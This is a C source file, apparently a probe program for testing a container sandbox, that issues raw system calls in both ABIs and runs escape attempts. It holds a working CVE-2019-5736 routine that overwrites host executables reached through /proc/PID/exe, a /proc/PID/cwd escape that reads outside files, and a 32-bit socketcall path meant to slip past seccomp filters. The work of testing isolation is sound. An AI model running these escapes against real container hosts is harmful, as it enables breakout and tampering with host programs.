/* What a shell cannot do inside a container: single system calls in both ABIs, and attacks. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static long number(char **argv, int argc, int i)
{
	return i < argc ? strtol(argv[i], NULL, 0) : 0;
}

static int report(long result)
{
	/* Errors as the kernel gives them: negative. */
	printf("%ld\n", result);
	return 0;
}

#ifdef __x86_64__
static long call32(long nr, long a, long b, long c)
{
	long result;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}

/* socket() through the multiplexer of the 32-bit ABI: its arguments are out of a filter's sight. */
static long socketcall32(long domain, long type, long protocol)
{
	unsigned *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (args == MAP_FAILED)
		return -errno;
	args[0] = domain;
	args[1] = type;
	args[2] = protocol;
	return call32(102, 1, (long)args, 0);
}
#endif

/* Descriptors above the standard ones, with their targets. */
static int descriptors(void)
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *entry;
	if (!dir)
		return 1;
	while ((entry = readdir(dir))) {
		char target[4096];
		int fd = atoi(entry->d_name);
		ssize_t n = readlinkat(dirfd(dir), entry->d_name, target, sizeof target - 1);
		if (entry->d_name[0] == '.' || fd == dirfd(dir) || n < 0)
			continue;
		target[n] = 0;
		printf("%d %s\n", fd, target);
	}
	return 0;
}

/*
 * CVE-2019-5736: collects every program that shows under /proc/PID/exe and is not one of ours, and overwrites what lets
 * itself be opened for writing, until a file /stop appears.
 */
static int overwrite(void)
{
	static int seen[512];
	static struct stat known[512];
	int count = 0, hits = 0, looks = 0;
	struct stat self = {0}, shell = {0};
	stat("/proc/self/exe", &self);
	stat("/bin/busybox", &shell);
	puts("ready");
	fflush(stdout);
	while (access("/stop", F_OK) != 0) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;
		while (dir && (entry = readdir(dir))) {
			char path[300];
			struct stat st;
			int fd, i;
			if (atoi(entry->d_name) == 0)
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
			fd = open(path, O_PATH);
			if (fd < 0)
				continue;
			looks++;
			if (fstat(fd, &st) != 0 || st.st_ino == self.st_ino || st.st_ino == shell.st_ino || count == 512) {
				close(fd);
				continue;
			}
			for (i = 0; i < count; i++)
				if (known[i].st_ino == st.st_ino && known[i].st_dev == st.st_dev)
					break;
			if (i < count) {
				close(fd);
				continue;
			}
			known[count] = st;
			seen[count++] = fd;
		}
		if (dir)
			closedir(dir);
		for (int i = 0; i < count; i++) {
			char path[64];
			int fd;
			snprintf(path, sizeof path, "/proc/self/fd/%d", seen[i]);
			fd = open(path, O_WRONLY);
			if (fd < 0)
				continue;
			if (write(fd, "#!PWNED\n", 8) == 8)
				hits++;
			close(fd);
		}
	}
	printf("looks %d programs %d hits %d\n", looks, count, hits);
	return 0;
}

/* Which working directory another process sees, and whether it leads out: reads a file through it. */
static int through_cwd(const char *up)
{
	char path[512], text[64];
	DIR *dir;
	struct dirent *entry;
	puts("ready");
	fflush(stdout);
	while (access("/stop", F_OK) != 0) {
		dir = opendir("/proc");
		while (dir && (entry = readdir(dir))) {
			int fd;
			ssize_t n;
			if (atoi(entry->d_name) == 0)
				continue;
			snprintf(path, sizeof path, "/proc/%s/cwd/%s", entry->d_name, up);
			fd = open(path, O_RDONLY);
			if (fd < 0)
				continue;
			n = read(fd, text, sizeof text - 1);
			close(fd);
			if (n > 0) {
				text[n] = 0;
				printf("ESCAPED %s\n", text);
				fflush(stdout);
				return 0;
			}
		}
		if (dir)
			closedir(dir);
	}
	puts("kept in");
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	if (!strcmp(what, "sys")) {
		long result = syscall(number(argv, argc, 2), number(argv, argc, 3), number(argv, argc, 4),
				      number(argv, argc, 5), number(argv, argc, 6), number(argv, argc, 7),
				      number(argv, argc, 8));
		return report(result == -1 ? -errno : result);
	}
#ifdef __x86_64__
	if (!strcmp(what, "sys32"))
		return report(call32(number(argv, argc, 2), number(argv, argc, 3), number(argv, argc, 4),
				     number(argv, argc, 5)));
	if (!strcmp(what, "socketcall32"))
		return report(socketcall32(number(argv, argc, 2), number(argv, argc, 3), number(argv, argc, 4)));
#endif
	if (!strcmp(what, "fds"))
		return descriptors();
	if (!strcmp(what, "personality"))
		return report(syscall(SYS_personality, 0xffffffff));
	if (!strcmp(what, "mkdir")) {
		return report(mkdir(argv[2], 0755) == 0 ? 0 : -errno);
	}
	if (!strcmp(what, "winsize")) {
		struct winsize size = {0};
		ioctl(0, TIOCGWINSZ, &size);
		printf("%d %d\n", size.ws_row, size.ws_col);
		return 0;
	}
	if (!strcmp(what, "overwrite"))
		return overwrite();
	if (!strcmp(what, "through-cwd"))
		return through_cwd(argv[2]);
	if (!strcmp(what, "pause")) {
		puts("ready");
		fflush(stdout);
		for (;;)
			pause();
	}
	fprintf(stderr, "probe: unknown word `%s`\n", what);
	return 2;
}
